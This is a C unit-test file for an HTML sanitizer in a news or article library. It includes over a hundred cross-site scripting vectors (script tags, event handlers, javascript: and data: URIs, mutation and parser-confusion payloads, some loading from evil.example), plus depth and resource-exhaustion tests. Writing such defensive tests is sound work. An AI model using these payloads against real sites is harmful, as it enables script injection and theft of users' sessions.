/* HTML from elsewhere: what is left of it, and that nothing that runs is. */

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <cmocka.h>

#include "article/html.h"

#define TEST_COUNT(array) (sizeof(array) / sizeof((array)[0]))
#define TEST_SECONDS 20 /* sanitized, on a busy machine */

typedef struct {
    const char *html;
    const char *expected;
} test_case_t;

/* Collected from the lists that sanitizers are tested with: each of them has
   run in some browser, or passed some filter. */
static const char *const test_vectors[] = {
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=x></script>",
    "<script\n>alert(1)</script\t\n bar>",
    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)//",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=javascript:alert(1)>",
    "<img src=`javascript:alert(1)`>",
    "<img src=\"jav&#x09;ascript:alert(1);\">",
    "<img src=\" &#14; javascript:alert(1);\">",
    "<IMG DYNSRC=\"javascript:alert(1)\" LOWSRC=\"javascript:alert(1)\">",
    "<image src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img srcset=\"x\" onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java&Tab;script&colon;alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;cript:alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:x\">x</a>",
    "<a href=\"\x01javascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"livescript:x\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"data:image/svg+xml;base64,PHN2Zz4=\">x</a>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img src=\"data:text/html;base64,PHNjcmlwdD4=\">",
    "<a href=\"blob:https://x/y\">x</a>",
    "<a href=\"filesystem:https://x/y\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a xlink:href=\"javascript:alert(1)\">x</a>",
    "<a href=\"//x\" onmouseover=alert(1) style=\"x:expression(1)\">x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>alert&#40;1)</script>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math>"
    "<img src onerror=alert(1)>",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=x onload=alert(1)></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<embed src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
    "<applet code=x></applet>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)//></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<body background=\"javascript:alert(1)\">",
    "<html onmouseover=alert(1)>",
    "<frameset onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=javascript:alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<keygen autofocus onfocus=alert(1)>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<meter onmouseover=alert(1)>x</meter>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<p style=\"behavior:url(x.htc)\">x</p>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>*{x:expression(alert(1))}</style>",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<link rel=import href=\"data:text/html,<script>alert(1)</script>\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1);//\">",
    "<bgsound src=\"javascript:alert(1);\">",
    "<layer src=\"http://evil.example/x.html\"></layer>",
    "<xml id=x><i><b><img src=javascript:alert(1)></b></i></xml>",
    "<xss id=x tabindex=1 onfocus=alert(1)>x</xss>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
    "<textarea><a title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\">",
    "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">",
    "<plaintext><script>alert(1)</script>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<! foo=\"><script>alert(1)</script>\">",
    "</ foo=\"><script>alert(1)</script>\">",
    "<x '=\"foo\"><x foo='><img src=x onerror=alert(1)//'>",
    "<a foo=x=`y><img alt=\"`><img src=xx:x onerror=alert(1)>\"></a>",
    "<p title=\"\" onclick=alert(1)>x</p>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<abbr title='\"><img src=x onerror=alert(1)>'>x</abbr>",
    "<img src=\"/a\" alt=\"&quot; onerror=&quot;alert(1)\">",
    "<img src=\"/a&quot; onerror=&quot;alert(1)\">",
    "<a href=\"https://x/&quot; onclick=&quot;alert(1)\">x</a>",
    "<q cite=\"javascript:alert(1)\">x</q>",
    "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
    "<del cite=\"javascript:alert(1)\" datetime=\"x\">x</del>",
    "<table background=\"javascript:alert(1)\"><tr><td background=\"x\">x",
    "<table><td onclick=alert(1) colspan=\"1\" onload=x>x</table>",
    "<ol start=\"javascript:1\" type=\"a\" onclick=x><li onclick=x>x</ol>",
    "<span lang=\"en&quot; onclick=&quot;alert(1)\">x</span>",
    "<bdo dir=\"ltr\" onclick=alert(1)>x</bdo>",
    "<time datetime='2026-01-01\" onclick=\"x'>x</time>",
    "<p lang='\"onclick=alert(1) '>x</p>",
    "<p dir='ltr\"onclick=alert(1)'>x</p>",
    "<a href=x rel='\"onclick=alert(1) nofollow'>x</a>",
    "<map name=x><area shape=default href=\"javascript:alert(1)\"></map>",
    "<ruby onclick=x>a<rt onclick=x>b</rt></ruby>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\xBCscript\xBE"
    "alert(1)\xBC/script\xBE",
    "<scr\xC0\x80ipt>alert(1)</script>",
};

/* Elements that may be in what is left; each is followed by ' ' or '>'. */
static const char *const test_elements[] = {
    "p",    "h2",         "h3",      "h4",    "pre", "ul",  "ol",   "li",
    "b",    "i",          "table",   "tbody", "tr",  "td",  "th",   "a",
    "abbr", "blockquote", "caption", "img",   "q",   "del", "span", "time",
    "ruby", "rt",         "figure",  "dl",    "dt",  "dd",  "hr",
};


static bool
test_known(const char *tag)
{
    size_t i, len;

    tag += *tag == '/';

    for (i = 0; i < TEST_COUNT(test_elements); i++) {

        len = strlen(test_elements[i]);

        if (strncmp(tag, test_elements[i], len) == 0
            && (tag[len] == ' ' || tag[len] == '>'))
        {
            return true;
        }
    }

    return false;
}


/* Attributes begin behind a space and stand in quotes; text in quotes is none
   of them. */
static void
test_attributes(const char *tag, const char *vector)
{
    const char *const known[] = {" href=\"",  " src=\"",     " alt=\"",
                                 " title=\"", " colspan=\"", " type=\"",
                                 " lang=\"",  " rel=\"",     " dir=\""};
    const char       *p = strpbrk(tag, " >");
    size_t            i;

    while (*p == ' ') {

        for (i = 0; i < TEST_COUNT(known); i++) {
            if (strncmp(p, known[i], strlen(known[i])) == 0) {
                break;
            }
        }

        if (i == TEST_COUNT(known)) {
            fail_msg("%s: left <%s", vector, tag);
            return;
        }

        p += strlen(known[i]);

        if (i < 2) {
            assert_true(strncmp(p, "data:", 5) != 0);
            assert_true(strncmp(p, "javascript", 10) != 0);
            assert_true(p[strspn(p, "abcdefghijklmnopqrstuvwxyz")] != ':'
                        || strncmp(p, "http", 4) == 0);
        }

        p = strchr(p, '"');
        assert_non_null(p);
        p++;
    }

    assert_int_equal(*p, '>');
}


static void
test_html_vectors(void **state)
{
    news_buf_t  out = NEWS_BUF_INIT;
    const char *p;
    size_t      i;

    (void) state;

    for (i = 0; i < TEST_COUNT(test_vectors); i++) {

        out.len = 0;
        assert_int_equal(
            news_html_reduce(&out, news_str_borrow(test_vectors[i])), NEWS_OK);
        news_buf_append_char(&out, '\0');

        for (p = out.data; (p = strchr(p, '<')); p++) {
            if (!test_known(p + 1)) {
                fail_msg("%s: left %s", test_vectors[i], out.data);
            }
            if (p[1] != '/') {
                test_attributes(p + 1, test_vectors[i]);
            }
        }
    }

    news_buf_free(&out);
}


static void
test_expect(const test_case_t *cases, size_t count)
{
    news_buf_t once = NEWS_BUF_INIT, twice = NEWS_BUF_INIT;
    size_t     i;

    for (i = 0; i < count; i++) {

        once.len = twice.len = 0;
        assert_int_equal(
            news_html_reduce(&once, news_str_borrow(cases[i].html)), NEWS_OK);
        assert_int_equal(news_html_reduce(&twice, news_buf_borrow(&once)),
                         NEWS_OK);
        news_buf_append_char(&once, '\0');
        news_buf_append_char(&twice, '\0');
        assert_string_equal(once.data, cases[i].expected);
        assert_string_equal(twice.data, once.data);
    }

    news_buf_free(&once);
    news_buf_free(&twice);
}


static void
test_html_kept(void **state)
{
    static const test_case_t cases[] = {
        {"", ""},
        {" \n ", ""},
        {"a &lt;b&gt; &amp;amp; \"c\"", "<p>a &lt;b&gt; &amp;amp; \"c\"</p>\n"},
        {"<p>One <em>two</em>\n  three", "<p>One <em>two</em>\nthree</p>\n"},
        {"<a href=\"https://x.example/?a=1&b=2\" target=_blank>x</a>",
         "<p><a href=\"https://x.example/?a=1&amp;b=2\">x</a></p>\n"},
        {"<a href=mailto:a@x.example>m</a> <a href=tel:+1>t</a> <a href=/p>p",
         "<p><a href=\"mailto:a@x.example\">m</a> <a href=\"tel:+1\">t</a> "
         "<a href=\"/p\">p</a></p>\n"},
        {"<a href=' https://x.example/a b\"c '>x</a>",
         "<p><a href=\"https://x.example/a%20b%22c\">x</a></p>\n"},
        {"<a href='#note'>1</a>", "<p>1</p>\n"},
        {"<a rel='noopener NoFollow' href=/x>x</a>",
         "<p><a href=\"/x\" rel=\"NoFollow\">x</a></p>\n"},
        {"<img src=/a.png><img src=/b.png alt='B &amp; C' width=30 height=0x>",
         "<p><img src=\"/a.png\" alt=\"\"><img src=\"/b.png\" "
         "alt=\"B &amp; C\" width=\"30\"></p>\n"},
        {"<img src='data:image/png;base64,iVBO+/='>",
         "<p><img src=\"data:image/png;base64,iVBO+/=\" alt=\"\"></p>\n"},
        {"<ol start=3 type=a reversed><li value=2>x</ol>",
         "<ol start=\"3\" type=\"a\" reversed=\"\">\n<li>x</li>\n</ol>\n"},
        {"<table><thead><tr><th scope=COL>a<tbody><tr><td colspan=2>b</table>",
         "<table>\n<thead>\n<tr>\n<th scope=\"col\">a</th>\n</tr>\n</thead>\n"
         "<tbody>\n<tr>\n<td colspan=\"2\">b</td>\n</tr>\n</tbody>\n"
         "</table>\n"},
        {"<pre>\n\n a\n  <code>b</code><br>c</pre>",
         "<pre>\n\n a\n  <code>b</code>\nc</pre>\n"},
        {"<p lang=fr dir=RTL>x</p><span lang=de>y</span><span>z</span>",
         "<p lang=\"fr\" dir=\"rtl\">x</p>\n"
         "<p><span lang=\"de\">y</span>z</p>\n"},
        {"<h1>A</h1><h2>B</h2><h6>C</h6>",
         "<h2>A</h2>\n<h3>B</h3>\n<h6>C</h6>\n"},
        {"<h2>B</h2>", "<h2>B</h2>\n"},
        {"<time datetime=2026-04-25>April</time> <time>never</time>",
         "<p><time datetime=\"2026-04-25\">April</time> never</p>\n"},
        {"a<br><br><br>b<br>", "<p>a<br>\n<br>\nb</p>\n"},
        {"a<hr>b", "<p>a</p>\n<hr>\n<p>b</p>\n"},
    };

    (void) state;
    test_expect(cases, TEST_COUNT(cases));
}


static void
test_html_made_valid(void **state)
{
    static const test_case_t cases[] = {
        {"<div>a</div><div>b</div>", "<p>a</p>\n<p>b</p>\n"},
        {"<b>a<p>b</b>c", "<p><b>a</b></p>\n<p><b>b</b>c</p>\n"},
        {"<a href=/x><h2>t</h2>u</a>",
         "<h2><a href=\"/x\">t</a></h2>\n<p><a href=\"/x\">u</a></p>\n"},
        {"<p></p><ul><li></ul><b></b><p> <br></p>", ""},
        {"<li>a<li>b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"},
        {"<ul>a<p>b</p><li>c</ul>",
         "<ul>\n<li>a\n<p>b</p>\n</li>\n<li>c</li>\n</ul>\n"},
        {"<dl><dd>d<dt>t</dl>",
         "<dl>\n<dt></dt>\n<dd>d</dd>\n<dt>t</dt>\n<dd></dd>\n</dl>\n"},
        {"<figcaption>c</figcaption>", "<p>c</p>\n"},
        {"<figure><img src=a><figcaption>b</figcaption>c"
         "<figcaption>d</figcaption></figure>",
         "<figure><img src=\"a\" alt=\"\">\n<figcaption>b</figcaption>\n"
         "</figure>\n<figure>c\n<figcaption>d</figcaption>\n</figure>\n"},
        {"<table><caption>c</caption><td>a<tfoot><tr><td>f</table>",
         "<table>\n<caption>c</caption>\n<tbody>\n<tr>\n<td>a</td>\n</tr>\n"
         "</tbody>\n<tbody>\n<tr>\n<td>f</td>\n</tr>\n</tbody>\n</table>\n"},
        {"<table><tr><td><h1>a</h1><tr><th><h2>b</h2></table>",
         "<table>\n<tbody>\n<tr>\n<td>\n<h2>a</h2>\n</td>\n</tr>\n<tr>\n"
         "<th>b</th>\n</tr>\n</tbody>\n</table>\n"},
        {"<blockquote>q<p>r</blockquote>",
         "<blockquote>\n<p>q</p>\n<p>r</p>\n</blockquote>\n"},
        {"<my-box>a <x-y>b</x-y></my-box>", "<p>a b</p>\n"},
        {"<iframe src='https://v.example/1'></iframe>b",
         "<p><a href=\"https://v.example/1\">https://v.example/1</a></p>\n"
         "<p>b</p>\n"},
        {"<video><source src='https://v.example/1.mp4'>old</video>",
         "<p><a href=\"https://v.example/1.mp4\">https://v.example/1.mp4</a>"
         "</p>\n"},
        {"<p hidden>a</p><p>b<script>c</script><style>d</style>", "<p>b</p>\n"},
        {"a&#1;&#127;&#x9F;b\xC0\x80"
         "c&#xD800;",
         "<p>a\u0178b\uFFFD\uFFFDc\uFFFD</p>\n"},
    };

    (void) state;
    test_expect(cases, TEST_COUNT(cases));
}


static void
test_html_words(void **state)
{
    news_buf_t out = NEWS_BUF_INIT;

    (void) state;

    news_buf_append(&out, NEWS_STR("\n\n"));
    assert_int_equal(
        news_html_words(
            &out, NEWS_STR("<h2>A &amp; B</h2><p>c <b>d</b><br>e<ul><li>f"
                           "<ul><li>g</ul>h</ul><img src=x alt=y><script>z")),
        NEWS_OK);
    news_buf_append_char(&out, '\0');
    assert_string_equal(out.data, "\n\nA & B\n\nc d\ne\n\nf\n\ng\n\nh");

    news_buf_free(&out);
}


static void
test_repeat(news_buf_t *out, const char *text, size_t count)
{
    while (count--) {
        news_buf_append(out, news_str_borrow(text));
    }
}


/* However deep: it is cut down, and cheaply so. */
static void
test_html_deep(void **state)
{
    static const char *const tags[] = {
        "<div>",          "<b>",      "<blockquote>", "<ul><li>",
        "<span lang=fr>", "<a>",      "<table><td>",  "<svg>",
        "<ruby>",         "<dl><dd>", "<custom>",     "<figure>"};
    news_buf_t in = NEWS_BUF_INIT, once = NEWS_BUF_INIT;
    news_buf_t twice = NEWS_BUF_INIT;
    size_t     i, k;
    int        depth, deepest;

    (void) state;

    for (i = 0; i < TEST_COUNT(tags); i++) {

        in.len = once.len = twice.len = 0;
        test_repeat(&in, tags[i], NEWS_HTML_TAGS_MAX / 8);
        test_repeat(&in, "x", 1);
        assert_int_equal(news_html_reduce(&once, news_buf_borrow(&in)),
                         NEWS_OK);
        assert_int_equal(news_html_reduce(&twice, news_buf_borrow(&once)),
                         NEWS_OK);
        assert_true(
            news_str_equal(news_buf_borrow(&once), news_buf_borrow(&twice)));

        for (k = 0, depth = deepest = 0; k + 1 < once.len; k++) {
            if (once.data[k] == '<') {
                depth += once.data[k + 1] == '/' ? -1 : 1;
                deepest = depth > deepest ? depth : deepest;
            }
        }

        assert_true(deepest <= 2 * NEWS_HTML_DEPTH_MAX + 4);
    }

    news_buf_free(&in);
    news_buf_free(&once);
    news_buf_free(&twice);
}


/* Some few bytes that ask for much time or memory. */
static void
test_html_bombs(void **state)
{
    news_buf_t in = NEWS_BUF_INIT, out = NEWS_BUF_INIT;
    char       mark[32];
    unsigned   i;
    time_t     start = time(NULL);

    (void) state;

    /* every paragraph opens all marks anew */
    news_buf_append(&in, NEWS_STR("<p>"));
    for (i = 0; i < 6000; i++) {
        snprintf(mark, sizeof(mark), "<b title=%u>", i);
        news_buf_append(&in, news_str_borrow(mark));
    }
    test_repeat(&in, "<p>x", 6000);
    assert_int_equal(news_html_reduce(&out, news_buf_borrow(&in)), NEWS_ELIMIT);

    /* the same with long attributes: it ends when the cap is reached */
    in.len = out.len = 0;
    for (i = 0; i < NEWS_HTML_DEPTH_MAX; i++) {
        news_buf_append(&in, NEWS_STR("<q cite=/"));
        test_repeat(&in, "x", 1000);
        news_buf_append(&in, NEWS_STR(">"));
    }
    test_repeat(&in, "<p>x", 1000);
    assert_int_equal(news_html_reduce(&out, news_buf_borrow(&in)), NEWS_ELIMIT);
    assert_true(out.len < NEWS_HTML_MAX + 10000);

    /* end tags that walk up the whole depth */
    in.len = out.len = 0;
    test_repeat(&in, "<div>", NEWS_HTML_TAGS_MAX / 2);
    test_repeat(&in, "</p>", NEWS_HTML_TAGS_MAX / 2);
    assert_int_equal(news_html_reduce(&out, news_buf_borrow(&in)), NEWS_OK);

    /* attributes, each compared with all before it */
    in.len = 0;
    news_buf_append(&in, NEWS_STR("<p "));
    for (i = 0; i < 300000; i++) {
        snprintf(mark, sizeof(mark), "a%u ", i);
        news_buf_append(&in, news_str_borrow(mark));
    }
    test_repeat(&in, ">", 1);
    assert_int_equal(news_html_reduce(&out, news_buf_borrow(&in)), NEWS_ELIMIT);

    assert_true(time(NULL) - start < TEST_SECONDS);

    news_buf_free(&in);
    news_buf_free(&out);
}


static void
test_html_caps(void **state)
{
    news_buf_t in = NEWS_BUF_INIT, out = NEWS_BUF_INIT;
    unsigned   extra, i;

    (void) state;

    for (extra = 0; extra < 2; extra++) {

        in.len = out.len = 0;
        test_repeat(&in, "<i>", NEWS_HTML_TAGS_MAX + extra);
        assert_int_equal(news_html_reduce(&out, news_buf_borrow(&in)),
                         extra ? NEWS_ELIMIT : NEWS_OK);

        in.len = out.len = 0;
        news_buf_append(&in, NEWS_STR("<p>"));
        test_repeat(&in, "x", NEWS_HTML_MAX - 8 + extra);
        news_buf_append(&in, NEWS_STR("</p>\n"));
        assert_int_equal(news_html_reduce(&out, news_buf_borrow(&in)),
                         extra ? NEWS_ELIMIT : NEWS_OK);

        in.len = out.len = 0;
        news_buf_append(&in, NEWS_STR("<p"));
        for (i = 0; i < NEWS_HTML_ATTRIBUTES_MAX + extra; i++) {
            news_buf_printf(&in, " a%u", i);
        }
        test_repeat(&in, ">x", 1);
        assert_int_equal(news_html_reduce(&out, news_buf_borrow(&in)),
                         extra ? NEWS_ELIMIT : NEWS_OK);
    }

    news_buf_free(&in);
    news_buf_free(&out);
}


int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_html_vectors),
        cmocka_unit_test(test_html_kept),
        cmocka_unit_test(test_html_made_valid),
        cmocka_unit_test(test_html_words),
        cmocka_unit_test(test_html_deep),
        cmocka_unit_test(test_html_bombs),
        cmocka_unit_test(test_html_caps),
    };

    cmocka_set_message_output(CM_OUTPUT_TAP);

    return cmocka_run_group_tests(tests, NULL, NULL);
}
